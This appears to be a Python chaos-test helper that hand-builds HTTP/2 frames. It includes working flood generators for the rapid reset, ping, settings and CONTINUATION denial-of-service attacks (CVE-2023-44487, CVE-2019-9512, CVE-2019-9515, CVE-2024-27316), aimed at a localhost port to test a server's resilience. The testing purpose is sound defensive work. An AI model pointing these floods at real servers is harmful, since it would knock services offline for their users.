"""HTTP/2 as no library would send it: frames by hand (RFC 9113), for who means harm."""

import re
import socket
import time
from collections.abc import Iterator, Sequence
from itertools import count
from typing import Final

from tests.chaos.load import FEED

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
ACK = 1
# RFC 9113's default, which a server may raise but not lower.
MAX_FRAME_BYTES: Final = 16_384

# Frames that are sent at once.
_BATCH: Final = 100
# Longest wait for anything, in seconds.
_BOUND_S: Final = 30.0
_READ_BYTES: Final = 65_536
# As gRPC's servers write it: literally, with the length of the value before it.
_STATUS: Final = re.compile(rb"grpc-status.(\d+)", re.DOTALL)


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


GREETING: Final = PREFACE + frame(SETTINGS)


def request(stream: int, *more: tuple[str, str], flags: int = END_HEADERS, path: str = f"/{FEED}") -> bytes:
    """The head of a call, for a page if nothing else is said, in as many frames as it takes."""
    head = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "feed"}
    rest = {"content-type": "application/grpc", "te": "trailers"}
    fields = block([*head.items(), *rest.items(), *more])
    first, *others = [fields[start : start + MAX_FRAME_BYTES] for start in range(0, len(fields), MAX_FRAME_BYTES)]
    if not others:
        return frame(HEADERS, flags, stream, first)
    *between, last = others
    frames = (frame(CONTINUATION, 0, stream, each) for each in between)
    return b"".join([frame(HEADERS, 0, stream, first), *frames, frame(CONTINUATION, flags, stream, last)])


def answered(port: int, *sent: bytes) -> tuple[int, float]:
    """Sends one call over a connection of its own.

    Returns:
        Its status, and how long that took from when the last byte was handed to the system, in milliseconds.
    """
    with socket.create_connection(("127.0.0.1", port), timeout=_BOUND_S) as connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        connection.sendall(GREETING)
        connection.recv(_READ_BYTES)
        connection.sendall(frame(SETTINGS, ACK))
        connection.sendall(b"".join(sent))
        start, heard = time.perf_counter(), b""
        while not (found := _STATUS.search(heard)):
            some = connection.recv(_READ_BYTES)
            assert some, "the connection ended without a status"
            heard += some
        return int(found[1]), (time.perf_counter() - start) * 1000


def block(fields: Sequence[tuple[str, str]]) -> bytes:
    """A header block without compression: each field a literal that is not indexed (RFC 7541, 6.2.2)."""
    return b"".join(b"\x00" + _string(name.encode()) + _string(value.encode()) for name, value in fields)


def _string(text: bytes) -> bytes:
    """A string by its length, an integer with a prefix of seven bits (RFC 7541, 5.1)."""
    length, rest = bytearray([min(len(text), 127)]), len(text) - 127
    while rest >= 0:
        length.append(rest % 128 + (128 if rest >= 128 else 0))
        rest = rest // 128 - (rest < 128)
    return bytes(length) + text


def _streams() -> Iterator[int]:
    return count(1, 2)


def rapid_reset() -> Iterator[bytes]:
    """Calls that are taken back at once (CVE-2023-44487)."""
    streams = _streams()
    cancel = (8).to_bytes(4)
    while True:
        some = [next(streams) for _ in range(_BATCH)]
        yield b"".join(request(stream) + frame(RESET, 0, stream, cancel) for stream in some)


def pings() -> Iterator[bytes]:
    """Pings that all want an answer (CVE-2019-9512)."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * _BATCH


def settings() -> Iterator[bytes]:
    """Settings that all want an acknowledgement (CVE-2019-9515)."""
    while True:
        yield frame(SETTINGS, 0, 0, (4).to_bytes(2) + (65_535).to_bytes(4)) * _BATCH


def continuation() -> Iterator[bytes]:
    """A head that never ends (CVE-2024-27316)."""
    yield request(1, flags=0)
    fields = block([("x-filler", "x" * 1_000)]) * 16
    while True:
        yield frame(CONTINUATION, 0, 1, fields)


FLOODS: Final = {
    "rapid reset": rapid_reset,
    "ping": pings,
    "settings": settings,
    "continuation": continuation,
}
